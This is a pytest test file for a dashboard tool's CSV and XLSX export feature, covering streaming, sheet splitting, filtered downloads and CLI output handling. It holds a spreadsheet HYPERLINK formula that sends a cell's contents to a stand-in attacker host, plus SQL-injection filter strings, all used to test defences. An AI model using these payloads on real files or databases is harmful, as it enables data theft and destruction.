"""Exports: CSV and XLSX of every chart and every published table, with the filters applied, streamed
with no row cap; XLSX read back with openpyxl equals the CSV; the sheet split past Excel's limit."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import gzip
import io
import os
import stat
import subprocess
import tempfile
from pathlib import Path

import duckdb
import openpyxl
import pyarrow as pa
import pytest
from cli_process import HEADWATER, cli_env
from conftest_web import (  # noqa: F401
    REGIONS,
    WEEKS,
    client_fixture,
    empty_project_fixture,
    project_fixture,
    publish_rows,
    synthetic_rows,
)
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner
from warehouses import on_both_warehouses

from headwater.errors import ExitCode, HeadwaterError
from headwater.publish import export

DASH = "/dashboards/flake_rate"
TABLE_CHART, PIVOT_CHART = 2, 5
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def reader_of(sql: str, batch_rows: int = 1000) -> pa.RecordBatchReader:
    return duckdb.connect().execute(sql).fetch_record_batch(batch_rows)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def sheets(data: bytes | Path) -> dict[str, list[list[object]]]:
    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data, read_only=True)
    try:
        return {ws.title: [list(row) for row in ws.iter_rows(values_only=True)] for ws in book.worksheets}
    finally:
        book.close()


def cell_matches(value: object, text: str) -> bool:
    """A cell read back by openpyxl is the value the CSV writes as ``text``. Numbers agree to 15
    significant digits: Excel's precision (xlsxwriter writes 16)."""
    if value is None:
        return text == ""
    if isinstance(value, bool):
        return text == ("true" if value else "false")
    if isinstance(value, (int, float)):
        return float(text) == pytest.approx(value, rel=1e-15)
    if isinstance(value, dt.datetime):
        return dt.datetime.fromisoformat(text) == value
    return str(value) == text


def assert_same(xlsx: list[list[object]], expected: list[list[str]]) -> None:
    assert len(xlsx) == len(expected)
    assert xlsx[0] == expected[0]  # the header
    for got, want in zip(xlsx[1:], expected[1:], strict=True):
        assert len(got) == len(want) and all(cell_matches(v, t) for v, t in zip(got, want, strict=True)), (got, want)


MIXED = """
SELECT i AS id,
       CASE WHEN i % 7 = 0 THEN NULL ELSE 'name ' || i END AS name,
       i * 1.5 AS ratio,
       i % 2 = 0 AS even,
       DATE '2024-01-06' + CAST(i AS INTEGER) AS day,
       TIMESTAMP '2024-01-06 08:30:00' + to_hours(i) AS at,
       CAST(i AS DECIMAL(10, 2)) / 4 AS amount,
       ['=1+1', '007', 'http://example.org', 'Ünïcødé ✓', '"quoted", comma', 'line
break'][1 + i % 6] AS tricky
FROM range(50) t(i)
"""


# --- CSV -------------------------------------------------------------------------------------------


def test_csv_of_zero_rows_is_the_header() -> None:
    assert b"".join(export.csv_chunks(reader_of("SELECT 1 AS a, 'x' AS b WHERE false"))) == b'"a","b"\n'
    out = io.BytesIO()
    assert export.write(reader_of("SELECT 1 AS a WHERE false"), "csv", out) == 0
    assert out.getvalue() == b'"a"\n'


def test_csv_streams_one_chunk_per_batch_and_writes_every_row() -> None:
    chunks = list(export.csv_chunks(reader_of("SELECT i, i * 2 AS j FROM range(10000) t(i)", batch_rows=1000)))
    assert chunks[0] == b'"i","j"\n' and len(chunks) == 11  # the header, then one chunk per batch of 1,000 rows
    rows = csv_rows(b"".join(chunks))
    assert len(rows) == 10001 and rows[-1] == ["9999", "19998"]
    out = io.BytesIO()
    assert export.write(reader_of("SELECT i, i * 2 AS j FROM range(10000) t(i)"), "csv", out) == 10000
    assert out.getvalue() == b"".join(chunks)


# --- formulas: a cell a spreadsheet would run is written as text ------------------------------------

FORMULA_STARTS = "=+-@\t\r"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def neutral(text: str) -> str:
    """OWASP's rule for CSV injection: a cell starting with a formula character gets a leading quote."""
    return "'" + text if text[:1] in tuple(FORMULA_STARTS) else text


def test_text_that_a_spreadsheet_would_run_is_prefixed_with_a_quote() -> None:
    sql = """SELECT * FROM (VALUES
        (1, '=1+1', -5, -1.5, '-5'), (2, '+33 6 12', 0, 2.0, '@SUM(A1)'), (3, chr(9) || 'tab', 7, 1e300, chr(13) || 'cr'),
        (4, 'a=b', -3, -0.0, NULL), (5, '', NULL, NULL, ' =x')) t(id, name, delta, ratio, note)"""
    rows = csv_rows(b"".join(export.csv_chunks(reader_of(sql))))
    assert [r[1] for r in rows[1:]] == ["'=1+1", "'+33 6 12", "'\ttab", "a=b", ""]
    assert [r[4] for r in rows[1:]] == ["'-5", "'@SUM(A1)", "'\rcr", "", " =x"]  # text that looks like a number is text
    assert [r[2] for r in rows[1:]] == ["-5", "0", "7", "-3", ""]  # numbers stay numbers: a spreadsheet reads -5 as -5
    assert rows[1][3] == "-1.5"
    out = io.BytesIO()
    export.write(reader_of(sql), "csv", out)
    assert out.getvalue() == b"".join(export.csv_chunks(reader_of(sql)))  # `headwater export` writes the same


def test_raw_csv_keeps_every_value_as_it_is() -> None:
    sql = "SELECT '=1+1' AS \"=cmd\", -5 AS n"
    assert csv_rows(b"".join(export.csv_chunks(reader_of(sql), raw=True))) == [["=cmd", "n"], ["=1+1", "-5"]]
    out = io.BytesIO()
    export.write(reader_of(sql), "csv", out, raw=True)
    assert csv_rows(out.getvalue()) == [["=cmd", "n"], ["=1+1", "-5"]]


def test_blobs_are_neutralised_as_the_text_they_are_written_as() -> None:
    rows = csv_rows(b"".join(export.csv_chunks(reader_of("SELECT CAST('=cmd' AS BLOB) AS b UNION ALL SELECT CAST('ok' AS BLOB)"))))
    assert sorted(r[0] for r in rows[1:]) == ["'=cmd", "ok"]


def test_headers_enums_and_every_batch_are_neutralised() -> None:
    sql = "SELECT CAST(['=a', 'b'][1 + i % 2] AS ENUM ('=a', 'b')) AS kind, '@' || i AS label, i AS \"=total\" FROM range(2500) t(i)"
    rows = csv_rows(b"".join(export.csv_chunks(reader_of(sql, batch_rows=1000))))
    assert rows[0] == ["kind", "label", "'=total"]  # a header is a cell too (pivot headers come from data)
    assert {r[0] for r in rows[1:]} == {"'=a", "b"}
    assert all(r[1] == f"'@{n}" for n, r in enumerate(rows[1:])) and len(rows) == 2501


@given(st.lists(st.text(), min_size=1, max_size=20))
def test_neutralising_is_exactly_owasps_rule(texts: list[str]) -> None:
    schema = pa.schema([("t", pa.string())])
    batch = pa.record_batch([pa.array(texts)], schema=schema)
    got = export.neutralised(pa.RecordBatchReader.from_batches(schema, [batch])).read_all().column("t").to_pylist()
    assert got == [neutral(t) for t in texts]


def test_xlsx_keeps_formula_text_as_text() -> None:
    out = io.BytesIO()
    export.write(reader_of(f"SELECT {export_literal(HYPERLINK)} AS name, '+1' AS phone"), "xlsx", out)
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    cells = [book.active.cell(2, 1), book.active.cell(2, 2)]
    assert [c.value for c in cells] == [HYPERLINK, "+1"] and [c.data_type for c in cells] == ["s", "s"]  # strings, not formulas


def export_literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


NESTED = """SELECT i AS id, [i, i + 1] AS pair, {'a': i, 'b': '=x'} AS rec, MAP {'k': i} AS m, to_days(CAST(i AS INTEGER)) AS span,
    [['-a']] AS deep, CAST(NULL AS INTEGER[]) AS nothing FROM range(3) t(i)"""


def test_lists_structs_maps_and_intervals_are_written_as_duckdb_text() -> None:
    """pyarrow's CSV writer has no form for them (a download died with 'Unsupported Type'): they
    are written as DuckDB writes them as text, and neutralised like any text."""
    rows = csv_rows(b"".join(export.csv_chunks(reader_of(NESTED, batch_rows=2))))
    assert rows[0] == ["id", "pair", "rec", "m", "span", "deep", "nothing"]
    assert rows[2] == ["1", "[1, 2]", "{'a': 1, 'b': '=x'}", "{k=1}", "1 day", "[[-a]]", ""]
    out = io.BytesIO()
    assert export.write(reader_of(NESTED), "csv", out) == 3 and csv_rows(out.getvalue()) == rows
    assert csv_rows(b"".join(export.csv_chunks(reader_of("SELECT ['=1'] AS l", batch_rows=2), raw=True)))[1] == ["['=1']"]


def test_gzip_chunks_decompress_to_the_csv() -> None:
    plain = b"".join(export.csv_chunks(reader_of(MIXED)))
    assert gzip.decompress(b"".join(export.gzip_chunks(export.csv_chunks(reader_of(MIXED))))) == plain


# --- XLSX ------------------------------------------------------------------------------------------


def test_xlsx_read_back_equals_the_raw_csv() -> None:
    expected = csv_rows(b"".join(export.csv_chunks(reader_of(MIXED), raw=True)))
    out = io.BytesIO()
    assert export.write(reader_of(MIXED), "xlsx", out) == 50
    got = sheets(out.getvalue())
    assert list(got) == ["data"]
    assert_same(got["data"], expected)
    rows = got["data"][1:]
    first = rows[1]
    assert isinstance(first[0], int) and isinstance(first[3], bool) and isinstance(first[4], dt.datetime)
    assert rows[0][7] == "=1+1" and rows[1][7] == "007"  # text stays text: no formulas, no numbers


def test_xlsx_of_zero_rows_is_a_sheet_with_the_header() -> None:
    out = io.BytesIO()
    assert export.write_xlsx(reader_of("SELECT 1 AS a, 'x' AS b WHERE false"), out) == 0
    assert sheets(out.getvalue()) == {"data": [["a", "b"]]}


def test_xlsx_odd_values_do_not_break_the_file() -> None:
    schema = pa.schema([("f", pa.float64()), ("d", pa.decimal128(38, 10)), ("t", pa.time64("us")), ("tz", pa.timestamp("us", tz="America/New_York"))])
    batch = pa.record_batch(
        [
            pa.array([float("nan"), float("inf"), 1.25]),
            pa.array([decimal.Decimal("1.5"), None, decimal.Decimal(-2)], type=pa.decimal128(38, 10)),
            pa.array([dt.time(7, 30), None, dt.time(0, 0)]),
            pa.array([dt.datetime(2024, 1, 6, 12, 0, tzinfo=dt.UTC)] * 3, type=pa.timestamp("us", tz="America/New_York")),
        ],
        schema=schema,
    )
    out = io.BytesIO()
    export.write_xlsx(pa.RecordBatchReader.from_batches(schema, [batch]), out)
    rows = sheets(out.getvalue())["data"]
    assert [r[0] for r in rows[1:]] == ["=#NUM!", "=1/0", 1.25]  # Excel has no NaN or infinity: its errors instead
    assert [r[1] for r in rows[1:]] == [1.5, None, -2]
    assert rows[1][2] == "07:30:00"
    assert rows[1][3] == dt.datetime(2024, 1, 6, 7, 0)  # the wall time in the column's time zone


@pytest.mark.parametrize(("rows", "sheet_sizes"), [(12, [4, 4, 4]), (8, [4, 4]), (4, [4]), (13, [4, 4, 4, 1])])
def test_rows_past_the_sheet_limit_go_on_in_further_sheets_with_the_header(monkeypatch, rows: int, sheet_sizes: list[int]) -> None:
    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 5)  # 1 header + 4 data rows per sheet
    out = io.BytesIO()
    assert export.write_xlsx(reader_of(f"SELECT i, 'row ' || i AS label FROM range({rows}) t(i)", batch_rows=3), out) == rows
    got = sheets(out.getvalue())
    assert list(got) == ["data"] + [f"data ({n})" for n in range(2, len(sheet_sizes) + 1)]
    assert [len(s) - 1 for s in got.values()] == sheet_sizes
    assert all(s[0] == ["i", "label"] for s in got.values())
    assert [r[0] for s in got.values() for r in s[1:]] == list(range(rows))  # every row once, in order


def test_the_real_limit_is_excels() -> None:
    assert export.XLSX_MAX_ROWS == 1_048_576  # rows per sheet, the header included: 1,048,575 data rows


def test_xlsx_file_is_an_anonymous_temporary_file_streamed_in_chunks() -> None:
    before = set(os.listdir(tempfile.gettempdir()))
    handle, rows = export.xlsx_file(reader_of(MIXED))
    assert rows == 50 and handle.tell() == 0
    chunks = list(export.file_chunks(handle, size=1024))
    assert handle.closed and len(chunks) > 1
    assert sheets(b"".join(chunks))["data"][1][0] == 0
    assert set(os.listdir(tempfile.gettempdir())) == before  # no file left behind: no name, no xlsxwriter scratch


def test_a_failing_export_leaves_no_scratch_files() -> None:
    def broken() -> pa.RecordBatchReader:
        schema = pa.schema([("a", pa.int64())])

        def batches():
            yield pa.record_batch([pa.array([1])], schema=schema)
            raise RuntimeError("the query died")

        return pa.RecordBatchReader.from_batches(schema, batches())

    def scratch() -> set[str]:  # the export's own (other processes on the machine use /tmp too)
        return {name for name in os.listdir(tempfile.gettempdir()) if name.startswith("headwater-xlsx-")}

    before = scratch()
    with pytest.raises(RuntimeError, match="the query died"):
        export.xlsx_file(broken())
    assert scratch() == before


# --- downloads from the web app --------------------------------------------------------------------


@on_both_warehouses
def test_chart_xlsx_equals_chart_csv_with_filters(client) -> None:
    params = {"region": ["North", "East"], "weeks_from": "2024-01-07"}
    plain = client.get(f"{DASH}/charts/{TABLE_CHART}.csv", params=params, headers={"Accept-Encoding": "identity"})
    assert plain.status_code == 200 and "content-encoding" not in plain.headers
    expected = csv_rows(plain.content)
    assert {r[1] for r in expected[1:]} == {"North", "East"} and {r[0] for r in expected[1:]} == {"2024-01-13", "2024-01-20"}
    response = client.get(f"{DASH}/charts/{TABLE_CHART}.xlsx", params=params)
    assert response.status_code == 200
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"] == 'attachment; filename="flake_rate-weekly-totals.xlsx"'
    assert_same(sheets(response.content)["data"], expected)


@on_both_warehouses
def test_pivot_downloads_are_the_pivot(client) -> None:
    got = csv_rows(client.get(f"{DASH}/charts/{PIVOT_CHART}.csv", params={"region": ["South", "East"]}).content)
    assert got[0] == ["week_start", "East", "South"]
    assert [r[0] for r in got[1:]] == [w.isoformat() for w in reversed(WEEKS)]  # newest first
    xlsx = sheets(client.get(f"{DASH}/charts/{PIVOT_CHART}.xlsx", params={"region": ["South", "East"]}).content)["data"]
    assert_same(xlsx, got)


@on_both_warehouses
def test_kpi_downloads_its_numbers(client) -> None:
    got = csv_rows(client.get(f"{DASH}/charts/3.csv").content)
    assert got[0] == ["flake_rate", "flake_rate (All weeks shown)"] and len(got) == 2


def test_csv_download_is_gzipped_at_the_source_when_the_client_accepts_it(client) -> None:
    response = client.get(f"{DASH}/charts/{TABLE_CHART}.csv", headers={"Accept-Encoding": "gzip"})
    assert response.headers["content-encoding"] == "gzip" and response.headers["vary"] == "Accept-Encoding"
    plain = client.get(f"{DASH}/charts/{TABLE_CHART}.csv", headers={"Accept-Encoding": "identity"})
    assert response.content == plain.content  # the test client decompresses


@on_both_warehouses
def test_dashboard_table_downloads_apply_the_filters(client) -> None:
    everything = csv_rows(client.get("/tables/flake_rate_weekly.csv").content)
    assert len(everything) - 1 == len(synthetic_rows())
    params = {"organizer": "Ana", "weeks_to": "2024-01-13"}
    filtered = csv_rows(client.get(f"{DASH}/tables/flake_rate_weekly.csv", params=params).content)
    expected = [r for r in synthetic_rows() if r["organizer"] == "Ana" and r["week_start"] <= dt.date(2024, 1, 13)]  # type: ignore[operator]
    assert filtered[0] == everything[0] and len(filtered) - 1 == len(expected)
    assert sorted((r[0], r[1], int(r[3])) for r in filtered[1:]) == sorted((r["week_start"].isoformat(), r["region"], r["completed"]) for r in expected)  # type: ignore[attr-defined]
    xlsx = sheets(client.get(f"{DASH}/tables/flake_rate_weekly.xlsx", params=params).content)["data"]
    assert_same(xlsx, filtered)
    whole = sheets(client.get("/tables/flake_rate_weekly.xlsx").content)["data"]
    assert len(whole) == len(everything)


def test_xlsx_download_splits_sheets_past_the_limit(client, monkeypatch) -> None:
    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 8)
    got = sheets(client.get("/tables/flake_rate_weekly.xlsx").content)
    assert list(got) == ["data", "data (2)", "data (3)"]
    assert [len(s) - 1 for s in got.values()] == [7, 7, len(synthetic_rows()) - 14]
    assert len({tuple(s[0]) for s in got.values()}) == 1


@pytest.mark.parametrize("value", ["' OR 1=1 --", "North'); DROP TABLE flake_rate_weekly; --"])
def test_injection_in_download_filters(client, value: str) -> None:
    for url in (f"{DASH}/charts/{TABLE_CHART}.csv", f"{DASH}/tables/flake_rate_weekly.csv", f"{DASH}/charts/{PIVOT_CHART}.csv"):
        response = client.get(url, params={"region": value})
        assert response.status_code == 200 and len(csv_rows(response.content)) == 1  # the header only
    assert sheets(client.get(f"{DASH}/charts/{TABLE_CHART}.xlsx", params={"organizer": value}).content)["data"][1:] == []
    for key in ("weeks_from", "weeks_to"):
        refused = client.get(f"{DASH}/tables/flake_rate_weekly.xlsx", params={key: value})
        assert refused.status_code == 400 and "is not a date" in refused.text
    assert len(csv_rows(client.get("/tables/flake_rate_weekly.csv").content)) == len(synthetic_rows()) + 1


@on_both_warehouses
def test_downloads_neutralise_formulas_unless_asked_for_raw(empty_project, tmp_path: Path) -> None:
    from conftest_web import logged_in_client

    from headwater.cli.main import app

    publish_rows(empty_project, synthetic_rows(organizers=[HYPERLINK, "Ana"]), "run-000001")
    with logged_in_client(empty_project) as client:
        for url in ("/tables/flake_rate_weekly.csv", f"{DASH}/tables/flake_rate_weekly.csv"):
            assert {r[2] for r in csv_rows(client.get(url).content)[1:]} == {"'" + HYPERLINK, "Ana"}, url
        assert {r[2] for r in csv_rows(client.get("/tables/flake_rate_weekly.csv", params={"hw_raw": "1"}).content)[1:]} == {HYPERLINK, "Ana"}
        filtered = client.get(f"{DASH}/tables/flake_rate_weekly.csv", params={"organizer": HYPERLINK, "hw_raw": "1"})
        assert filtered.status_code == 200 and {r[2] for r in csv_rows(filtered.content)[1:]} == {HYPERLINK}  # hw_raw is not a filter
        xlsx = sheets(client.get("/tables/flake_rate_weekly.xlsx").content)["data"]
        assert {r[2] for r in xlsx[1:]} == {HYPERLINK, "Ana"}  # XLSX cells are strings: nothing to neutralise
        web = client.get("/tables/flake_rate_weekly.csv").content
    runner = CliRunner()
    target = tmp_path / "out.csv"
    assert runner.invoke(app, ["export", "flake_rate_weekly", "-p", str(empty_project.root), "-o", str(target)]).exit_code == 0
    assert target.read_bytes() == web
    raw = runner.invoke(app, ["export", "flake_rate_weekly", "-p", str(empty_project.root), "-o", str(target), "--raw"])
    assert raw.exit_code == 0, raw.output
    assert {r[2] for r in csv_rows(target.read_bytes())[1:]} == {HYPERLINK, "Ana"}


CATALOG_VIEWS = ["pragma_database_list", "sqlite_master", "sqlite_schema", "duckdb_tables", "duckdb_settings", "duckdb_columns", "information_schema.tables"]


@pytest.mark.parametrize("name", CATALOG_VIEWS)
def test_only_published_tables_are_tables(client, project, name: str) -> None:
    from headwater.cli.main import app

    for url in (f"/tables/{name}.csv", f"/tables/{name}.xlsx", f"{DASH}/tables/{name}.csv"):
        response = client.get(url)
        assert response.status_code == 404 and "No published table" in response.text, url
        assert str(project.root) not in response.text
    result = CliRunner().invoke(app, ["export", name, "-p", str(project.root)])
    assert isinstance(result.exception, HeadwaterError) and result.exception.exit_code == ExitCode.USER_ERROR
    assert "Published tables: flake_rate_weekly" in result.exception.render() and str(project.root) not in result.stdout


def test_a_published_table_with_nested_columns_downloads_whole(empty_project, tmp_path: Path) -> None:
    from conftest_web import logged_in_client

    from headwater.warehouse import Warehouse

    warehouse = Warehouse(empty_project.root, empty_project.config.warehouse)
    con = warehouse.connect_build()
    try:
        con.execute(f"CREATE TABLE nested AS {NESTED}")
        warehouse.switch(warehouse.write_snapshot(con, "run-000001", {"nested": "main.nested"}, []))
    finally:
        con.close()
    with logged_in_client(empty_project) as client:
        response = client.get("/tables/nested.csv")
        assert response.status_code == 200 and csv_rows(response.content)[3][1] == "[2, 3]"
        assert len(sheets(client.get("/tables/nested.xlsx").content)["data"]) == 4
    result = CliRunner().invoke(__import__("headwater.cli.main", fromlist=["app"]).app, ["export", "nested", "-p", str(empty_project.root), "-o", str(tmp_path / "n.csv")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "n.csv").read_bytes() == response.content


def test_download_errors(client) -> None:
    assert client.get("/tables/nope.xlsx").status_code == 404
    assert client.get(f"{DASH}/tables/nope.csv").status_code == 404
    assert client.get("/dashboards/nope/tables/flake_rate_weekly.csv").status_code == 404
    assert client.get(f"{DASH}/charts/99.xlsx").status_code == 404
    assert client.get(f"{DASH}/charts/0.xlsx", params={"completed": "1"}).status_code == 400


# --- `headwater export` shares the code ---------------------------------------------------------------


@on_both_warehouses
def test_cli_export_writes_the_same_csv_and_xlsx(project, client, tmp_path: Path) -> None:
    from headwater.cli.main import app

    runner = CliRunner()
    target = tmp_path / "out.xlsx"
    result = runner.invoke(app, ["export", "flake_rate_weekly", "-p", str(project.root), "-f", "xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.output
    web = client.get("/tables/flake_rate_weekly.csv").content
    assert_same(sheets(target)["data"], csv_rows(web))
    csv_target = tmp_path / "out.csv"
    result = runner.invoke(app, ["export", "flake_rate_weekly", "-p", str(project.root), "-o", str(csv_target)])
    assert result.exit_code == 0, result.output
    assert csv_target.read_bytes() == web


@on_both_warehouses
def test_cli_export_with_a_dashboards_filters(project, client, tmp_path: Path) -> None:
    from headwater.cli.main import app

    runner = CliRunner()
    target = tmp_path / "north.csv"
    args = ["export", "flake_rate_weekly", "-p", str(project.root), "-o", str(target), "-d", "flake_rate"]
    result = runner.invoke(app, [*args, "--filter", "region=North", "--filter", "region=East", "--filter", "weeks_from=2024-01-13"])
    assert result.exit_code == 0, result.output
    web = client.get(f"{DASH}/tables/flake_rate_weekly.csv", params={"region": ["North", "East"], "weeks_from": "2024-01-13"})
    assert target.read_bytes() == web.content
    assert {r[1] for r in csv_rows(web.content)[1:]} == {"North", "East"}
    assert "Wrote 8 rows" in result.output  # 2 regions x 2 weeks x 2 organizers


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--filter", "region=North"], "--filter needs --dashboard"),
        (["-d", "flake_rate", "--filter", "region"], "is not KEY=VALUE"),
        (["-d", "nope"], "No dashboard named 'nope'"),
        (["-d", "flake_rate", "--filter", "weeks_from=yesterday"], "is not a date"),
        (["-d", "flake_rate", "--filter", "completed=1"], "Cannot filter"),
    ],
)
def test_cli_export_filter_mistakes_are_user_errors(project, tmp_path: Path, extra: list[str], message: str) -> None:
    from headwater.cli.main import app

    target = tmp_path / "out.csv"
    result = CliRunner().invoke(app, ["export", "flake_rate_weekly", "-p", str(project.root), "-o", str(target), *extra])
    error = result.exception  # `headwater`'s error funnel (main) turns it into a message and exit code 2
    assert isinstance(error, HeadwaterError) and error.exit_code == ExitCode.USER_ERROR, result.output
    assert message in error.render()
    assert not target.exists() and not (tmp_path / "out.csv.partial").exists()


# --- `headwater export -o`: regular files only ---------------------------------------------------------


def cli_export(project, *args: str | Path) -> subprocess.CompletedProcess[bytes]:
    """`headwater export flake_rate_weekly ARGS` as a process of its own (the error funnel included)."""
    command = [*HEADWATER, "export", "flake_rate_weekly", "-p", str(project.root), *map(str, args)]
    return subprocess.run(command, env=cli_env(NO_COLOR="1", HEADWATER_NO_DAEMON="1"), check=False, capture_output=True, timeout=120)


def assert_refused(result: subprocess.CompletedProcess[bytes], *words: str) -> None:
    stderr = result.stderr.decode()
    assert result.returncode == ExitCode.USER_ERROR, (result.returncode, stderr)
    assert "Traceback" not in stderr and "Fix:" in stderr
    for word in words:
        assert word in " ".join(stderr.split()), stderr


def test_export_to_dash_streams_to_standard_output(project, client) -> None:
    result = cli_export(project, "-o", "-")
    assert result.returncode == 0 and result.stdout == client.get("/tables/flake_rate_weekly.csv").content
    xlsx = cli_export(project, "-o", "-", "-f", "xlsx")
    assert xlsx.returncode == 0 and len(sheets(xlsx.stdout)["data"]) == len(synthetic_rows()) + 1
    assert not (Path.cwd() / "-").exists()


def test_export_refuses_what_is_not_a_regular_file(project, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    device_link = tmp_path / "null-link"
    device_link.symlink_to("/dev/null")
    dangling = tmp_path / "dangling"
    dangling.symlink_to(tmp_path / "nowhere" / "x.csv")
    for target in (fifo, device_link, tmp_path, Path("/dev/null")):
        assert_refused(cli_export(project, "-o", target), "not a regular file")
    assert stat.S_ISFIFO(fifo.lstat().st_mode) and device_link.is_symlink() and stat.S_ISCHR(Path("/dev/null").stat().st_mode)
    assert_refused(cli_export(project, "-o", dangling), "does not exist")
    assert dangling.is_symlink()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dangling", "null-link", "pipe", "project"]  # no temporary file left


def test_export_to_a_full_disk_says_so(project) -> None:
    env = cli_env(NO_COLOR="1", HEADWATER_NO_DAEMON="1")
    with open("/dev/full", "wb") as full:
        result = subprocess.run([*HEADWATER, "export", "flake_rate_weekly", "-p", str(project.root), "-o", "-"], env=env, stdout=full, stderr=subprocess.PIPE, check=False, timeout=120)
    assert_refused(result, "Cannot write the export to standard output: the disk is full")


def test_export_into_a_pipe_closed_early_stops_quietly(project) -> None:
    """`headwater export T -o - | head -1`: the reader is gone; the export stops like any Unix filter
    (exit 141, 128 + SIGPIPE, as a shell reports `yes | head`), with no traceback and no "bug" message."""
    env = cli_env(NO_COLOR="1", HEADWATER_NO_DAEMON="1")
    command = [*HEADWATER, "export", "flake_rate_weekly", "-p", str(project.root), "-o", "-"]
    runs = [*HEADWATER, "runs", "-p", str(project.root)]
    for fmt, args in (("csv", [*command, "-f", "csv"]), ("xlsx", [*command, "-f", "xlsx"]), ("runs", runs), ("runs --json", [*runs, "--json"])):
        with subprocess.Popen(args, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as proc:
            proc.stdout.close()  # the reader leaves before the first byte is written
            stderr = proc.stderr.read().decode()
            code = proc.wait(timeout=120)
        assert code == ExitCode.PIPE_CLOSED == 141, (fmt, code, stderr)
        assert stderr == "", (fmt, stderr)


def test_export_into_a_missing_folder_is_a_user_error(project, tmp_path: Path) -> None:
    assert_refused(cli_export(project, "-o", tmp_path / "nonexistent" / "dir" / "x.csv"), "does not exist")
    plain = tmp_path / "file"
    plain.write_text("x")
    assert_refused(cli_export(project, "-o", plain / "x.csv"), "not a folder")
    assert plain.read_text() == "x"


def test_export_through_a_symlink_writes_its_target(project, client, tmp_path: Path) -> None:
    real = tmp_path / "data" / "report.csv"
    real.parent.mkdir()
    real.write_text("old")
    real.chmod(0o640)
    link = tmp_path / "report.csv"
    link.symlink_to(Path("data") / "report.csv")
    result = cli_export(project, "-o", link)
    assert result.returncode == 0, result.stderr
    assert link.is_symlink() and real.read_bytes() == client.get("/tables/flake_rate_weekly.csv").content
    assert stat.S_IMODE(real.stat().st_mode) == 0o640  # the file keeps its mode, as an editor's save does
    assert sorted(p.name for p in real.parent.iterdir()) == ["report.csv"]  # the temporary file was renamed over it


def test_export_replaces_a_regular_file_atomically(project, client, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old")
    before = target.stat().st_ino
    assert cli_export(project, "-o", target).returncode == 0
    assert target.read_bytes() == client.get("/tables/flake_rate_weekly.csv").content and target.stat().st_ino != before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "project") == ["out.csv"]
